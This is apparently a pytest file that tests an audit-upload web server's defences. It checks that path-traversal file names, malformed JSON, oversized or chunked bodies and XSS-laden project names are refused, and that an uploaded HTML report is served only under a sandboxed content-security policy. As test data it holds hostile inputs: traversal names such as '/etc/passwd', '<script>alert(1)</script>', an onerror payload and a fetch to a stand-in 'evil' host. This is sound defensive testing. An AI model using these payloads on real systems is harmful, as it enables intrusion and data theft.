"""Hostile uploads against a real server: escaping names, oversized bodies (declared and
chunked), findings documents that are not ours, a report carrying script, bad project
names. Each is refused (4xx naming the file or field) or neutralised, and nothing is
written outside the artifact store. SQLite only: none of this depends on the database."""
from __future__ import annotations

import json
from pathlib import Path

import pytest

API = "/api/v1"
pytestmark = pytest.mark.parametrize("backend", ["sqlite"])


def _tree(root: Path) -> set[str]:
    """Every file under ``root`` but the server's log and the database's own files."""
    return {p.relative_to(root).as_posix() for p in root.rglob("*")
            if p.is_file() and not p.name.endswith(".log") and ".db" not in p.name}


def _audits(c, project: str) -> int:
    r = c.get(f"{API}/projects/{project}/audits")
    return 0 if r.status_code == 404 else r.json()["total"]


def test_names_and_content_refused(make_server, run_dirs, tmp_path):
    server = make_server(workers=0)
    findings = (run_dirs["base"] / "findings.json").read_bytes()
    doc = json.loads(findings)
    ok = ("file", ("findings.json", findings))
    with server.client(server.admin) as c:
        assert c.post(f"{API}/projects/h/audits", files=[ok]).status_code == 201
        before = _tree(tmp_path)

        def upload(files, data=None, project="h"):
            return c.post(f"{API}/projects/{project}/audits", files=files, data=data or {})

        for name in ("../x", "/etc/passwd", "store/../../x", "..\\x", "store\\x.npy",
                     ".hidden", "store/.hidden", "store/latents/../../../../x",
                     "./findings.json", "report.htm", "index.html", "store", "x/y.npy",
                     "store//a.npy", "C:/x", "store/a\x00b", "store/" + "a/" * 9 + "x"):
            r = upload([ok, ("file", (name, b"hostile"))])
            assert r.status_code == 400, (name, r.text)
            detail = r.json()["detail"]
            assert "file name refused" in detail, name
            assert name.isprintable() is False or repr(name)[1:-1][:20] in detail, name
        r = upload([("file", ("", b"x")), ok])
        assert r.status_code == 400
        assert _tree(tmp_path) == before             # nothing written, in or out of the store
        assert not (tmp_path / "x").exists() and not (server.home / "x").exists()

        # the protocol's parts only, each file once
        r = upload([ok, ok])
        assert r.status_code == 400 and "given twice" in r.json()["detail"]
        r = upload([("report", ("findings.json", findings))])
        assert r.status_code == 400 and "'report'" in r.json()["detail"]
        r = upload([ok], data={"owner": "me"})
        assert r.status_code == 400 and "'owner'" in r.json()["detail"]
        r = upload([ok], data={"labels": "[1, 2]"})
        assert r.status_code == 400 and "labels" in r.json()["detail"]
        r = upload([ok], data={"labels": "{nope"})
        assert r.status_code == 400 and "labels" in r.json()["detail"]
        r = upload([ok], data={"version": "v" * 201})
        assert r.status_code == 400 and "version" in r.json()["detail"]
        r = c.post(f"{API}/projects/h/audits", json={"findings": doc})
        assert r.status_code == 400 and "multipart" in r.json()["detail"]

        # findings.json: required, JSON, and valid against its schema
        r = upload([("file", ("summary.md", b"# hi"))])
        assert r.status_code == 400 and "findings.json: missing" in r.json()["detail"]
        r = upload([("file", ("findings.json", b"<html>not json</html>"))])
        assert r.status_code == 400 and "not valid JSON" in r.json()["detail"]
        r = upload([("file", ("findings.json", b"\xff\xfe\x00"))])
        assert r.status_code == 400 and "findings.json" in r.json()["detail"]
        r = upload([("file", ("findings.json", findings.replace(b"0.0", b"NaN", 1)))])
        assert r.status_code == 400 and "NaN" in r.json()["detail"]
        bad = json.loads(findings)
        bad["findings"][0]["severity"] = "apocalyptic"
        r = upload([("file", ("findings.json", json.dumps(bad).encode()))])
        assert r.status_code == 400
        assert "findings/0/severity" in r.json()["detail"], r.json()["detail"]
        bad = json.loads(findings)
        del bad["run"]["n"]
        r = upload([("file", ("findings.json", json.dumps(bad).encode()))])
        assert r.status_code == 400 and "run" in r.json()["detail"] and "'n'" in r.json()["detail"]
        r = upload([("file", ("findings.json", b"[]"))])
        assert r.status_code == 400 and "object" in r.json()["detail"]
        assert _audits(c, "h") == 1
        assert _tree(tmp_path) == before

        # project names
        for name in ("<script>alert(1)</script>", "../x", "..", ".hidden", "a" * 101, "a b"):
            r = c.post(f"{API}/projects", json={"name": name})
            assert r.status_code == 400 and "name" in r.json()["detail"], name
        r = upload([ok], project="%3Cscript%3Ealert(1)%3C%2Fscript%3E")
        assert r.status_code in (400, 404)
        r = upload([ok], project="%3Cscript%3E")
        assert r.status_code == 400 and "project" in r.json()["detail"]
        assert [p["name"] for p in c.get(f"{API}/projects").json()["projects"]] == ["h"]

        # a report carrying script is stored as sent and served only sandboxed
        hostile = (b"<!doctype html><title>r</title><script>fetch('http://evil/')"
                   b"</script><img src=x onerror=alert(1)>")
        r = upload([ok, ("file", ("report.html", hostile))])
        assert r.status_code == 201
        audit_id = r.json()["id"]
        page = c.get(f"/audits/{audit_id}/report")
        assert page.status_code == 200 and page.content == hostile
        csp = page.headers["content-security-policy"]
        assert "default-src 'none'" in csp and "sandbox" in csp and "connect-src" not in csp
        assert page.headers["x-content-type-options"] == "nosniff"
        assert page.headers["referrer-policy"] == "no-referrer"
        raw = c.get(f"{API}/audits/{audit_id}/files/report.html")
        assert raw.headers["content-type"] == "application/octet-stream"
        assert raw.headers["content-disposition"].startswith("attachment")
        assert "sandbox" in raw.headers["content-security-policy"]
    staging = server.home / "artifacts" / "staging"
    assert not staging.exists() or not any(staging.iterdir())


def test_oversized_uploads(make_server, run_dirs):
    server = make_server(workers=0, args=("--max-upload-mb", "0.05"))      # 52,428 bytes
    findings = (run_dirs["base"] / "findings.json").read_bytes()
    assert len(findings) < 40_000
    with server.client(server.admin) as c:
        r = c.post(f"{API}/projects/big/audits",
                   files=[("file", ("findings.json", findings)),
                          ("file", ("summary.md", b"x" * 200_000))])
        assert r.status_code == 413 and "52428" in r.json()["detail"]

        def chunked(size: int):
            yield (b"--b\r\nContent-Disposition: form-data; name=\"file\"; "
                   b"filename=\"findings.json\"\r\n\r\n" + findings + b"\r\n")
            yield (b"--b\r\nContent-Disposition: form-data; name=\"file\"; "
                   b"filename=\"summary.md\"\r\n\r\n")
            for _ in range(size // 8192):
                yield b"y" * 8192
            yield b"\r\n--b--\r\n"
        for size in (36_000, 2_000_000):          # over the limit at the end, and midway
            r = c.post(f"{API}/projects/big/audits", content=chunked(size),
                       headers={"content-type": "multipart/form-data; boundary=b"})
            assert r.request.headers.get("transfer-encoding") == "chunked"
            assert "content-length" not in r.request.headers
            assert r.status_code == 413, r.text
        assert c.get(f"{API}/projects").json()["projects"] == []      # no project, no audit
        # under the limit, chunked or not: stored
        r = c.post(f"{API}/projects/big/audits", content=chunked(0),
                   headers={"content-type": "multipart/form-data; boundary=b"})
        assert r.status_code == 201, r.text
        r = c.post(f"{API}/projects/big/audits", files=[("file", ("findings.json", findings))])
        assert r.status_code == 201
        assert _audits(c, "big") == 2
    artifacts = server.home / "artifacts"
    assert sorted(p.name for p in (artifacts / "audits").iterdir()) == ["1", "2"]
    assert not (artifacts / "staging").exists() or not any((artifacts / "staging").iterdir())
